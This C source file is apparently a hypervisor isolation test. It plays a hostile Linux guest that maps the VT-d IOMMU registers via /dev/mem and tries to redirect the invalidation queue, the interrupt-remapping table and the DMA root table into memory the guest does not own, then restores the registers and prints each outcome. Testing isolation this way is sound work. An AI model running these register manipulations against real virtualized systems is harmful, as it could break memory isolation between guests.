// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile Linux at the registers of its VT-d unit (boot with iomem=relaxed), which it then hands
 * back as it was. What each attempt led to is printed, a line each.
 *
 *   vtd-attack UNIT APIC-ID ADDRESS BDF
 *
 * UNIT: address of the registers; APIC-ID: of a CPU that is not Linux's; ADDRESS: memory that is not
 * Linux's; BDF: a function that Linux then wants to translate, as a number.
 */
#include <fcntl.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
#include "own-page.h"

#define GCMD 0x18
#define GSTS 0x1c
#define RTADDR 0x20
#define FSTS 0x34
#define IQH 0x80
#define IQT 0x88
#define IQA 0x90
#define IRTA 0xb8
#define LASTING 0x96ffffffu
#define SRTP (1u << 30)
#define IQE 0x10
#define EIME 0x800
#define WAIT(data) (0x25 | (uint64_t)(data) << 32)
#define INDEX 200 /* of a remapping entry that Linux does not use here */

static volatile uint8_t *regs;

static uint64_t get(unsigned int offset)
{
	return *(volatile uint64_t *)(regs + offset);
}

static void set(unsigned int offset, uint64_t value)
{
	*(volatile uint64_t *)(regs + offset) = value;
}

static void set32(unsigned int offset, uint32_t value)
{
	*(volatile uint32_t *)(regs + offset) = value;
}

static uint32_t get32(unsigned int offset)
{
	return *(volatile uint32_t *)(regs + offset);
}

static void say(const char *what, int error_before, uint64_t head)
{
	printf("%s: error %d, head %" PRIu64 "\n", what, error_before, head);
}

static int error(void)
{
	return !!(get32(FSTS) & IQE);
}

/* In a queue of our own; Linux's is put back, and goes through what is in it once more. */
static void attack_queue(uint64_t address, uint32_t apic_id)
{
	uint64_t iqa = get(IQA), iqt = get(IQT), irta = get(IRTA), queue_hpa, table_hpa;
	volatile uint64_t *queue = own_page(&queue_hpa), *table = own_page(&table_hpa);

	queue[0] = 0xf;
	queue[100] = 0;
	set(IQA, queue_hpa);
	set(IQT, 16);
	say("garbage", error(), get(IQH));

	queue[0] = WAIT(1);
	queue[1] = queue_hpa + 800;
	set32(FSTS, IQE);
	say("mended", error(), get(IQH));
	printf("status %" PRIu64 "\n", queue[100]);

	queue[2] = WAIT(0xbad);
	queue[3] = address;
	set(IQT, 32);
	say("status elsewhere", error(), get(IQH));

	table[2 * INDEX] = (uint64_t)apic_id << 32 | 0x41 << 16 | 1;
	queue[4] = (uint64_t)INDEX << 32 | 0x14;
	set(IRTA, table_hpa | EIME | 7);
	set(IQT, 48);
	say("interrupt for a cell", error(), get(IQH));
	set(IRTA, address | EIME | 7);
	queue[6] = queue[4];
	set(IQT, 64);
	say("table elsewhere", error(), get(IQH));
	set(IRTA, irta);

	set(IQA, address);
	set(IQT, 16);
	say("queue elsewhere", error(), get(IQH));
	set(IQT, 0);
	set32(FSTS, IQE);
	set(IQT, 0x7fff0);
	say("tail beyond", error(), get(IQH));
	set(IQT, 0);
	set32(FSTS, IQE);

	set(IQA, iqa);
	set(IQT, iqt);
	say("Linux's", error(), get(IQH) != iqt);
}

static void set_root(uint64_t address)
{
	set(RTADDR, address);
	set32(GCMD, (get32(GSTS) & LASTING) | SRTP);
}

static void attack_tables(uint64_t address, unsigned int bdf)
{
	uint64_t rtaddr = get(RTADDR), root_hpa, table_hpa;
	volatile uint64_t *root = own_page(&root_hpa), *table = own_page(&table_hpa);

	set_root(address);
	printf("root table elsewhere\n");
	root[2 * (bdf >> 8)] = table_hpa | 1;
	table[2 * (bdf & 0xff)] = address | 1;
	table[2 * (bdf & 0xff) + 1] = 0x102;
	set_root(root_hpa);
	printf("translated\n");
	set_root(rtaddr);
}

int main(int argc, char **argv)
{
	uint64_t address;
	int fd = open("/dev/mem", O_RDWR | O_SYNC);

	if (argc != 5 || fd < 0)
		die("/dev/mem");
	regs = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, strtol(argv[1], NULL, 0));
	if (regs == MAP_FAILED)
		die("the unit's registers");
	address = strtoull(argv[3], NULL, 0);
	attack_queue(address, (uint32_t)strtoul(argv[2], NULL, 0));
	attack_tables(address, (unsigned int)strtoul(argv[4], NULL, 0));
	return 0;
}
